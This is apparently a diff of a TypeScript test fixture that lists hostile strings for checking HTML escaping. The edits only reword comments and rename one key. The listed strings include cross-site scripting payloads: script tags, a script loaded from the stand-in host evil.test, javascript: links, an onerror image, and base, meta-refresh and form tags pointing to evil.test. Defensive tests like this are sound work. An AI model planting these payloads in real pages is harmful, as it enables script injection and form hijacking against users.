@@ -1,7 +1,7 @@
-/** Longer than any screen is wide, and without a place to break the line. */
+/** Wider than any screen, without a line break. */
 const LONG = 'w'.repeat(2_000);
 
-/** Texts that become markup, script or an address where they are not escaped. The key says what the text attempts. */
+/** Texts that become markup, script or an address when not escaped, by their kind. */
 export const HOSTILE: Readonly<Record<string, string>> = {
   'a script': '<script>parent.taken=1</script>',
   'a script in capitals': '<ScRiPt src=//evil.test/x.js></sCrIpT>',
@@ -16,7 +16,7 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   'a link that is a page': 'data:text/html,<script>taken()</script>',
   'a link in Markdown': '[press](javascript:taken())',
   entities: '&lt;script&gt;taken()&lt;/script&gt; &#x3c;b&#x3e; &quot;&amp;amp;',
-  'a comment that goes on': '--><img src=x onerror=taken()><!--',
+  'an open comment': '--><img src=x onerror=taken()><!--',
   'a processing instruction': '<?xml-stylesheet href="javascript:taken()"?><![CDATA[<b>]]>',
   'another base': '<base href="//evil.test/"><meta http-equiv=refresh content="0;url=//evil.test">',
   'another form': '</form><form action=//evil.test/><button>go</button>',
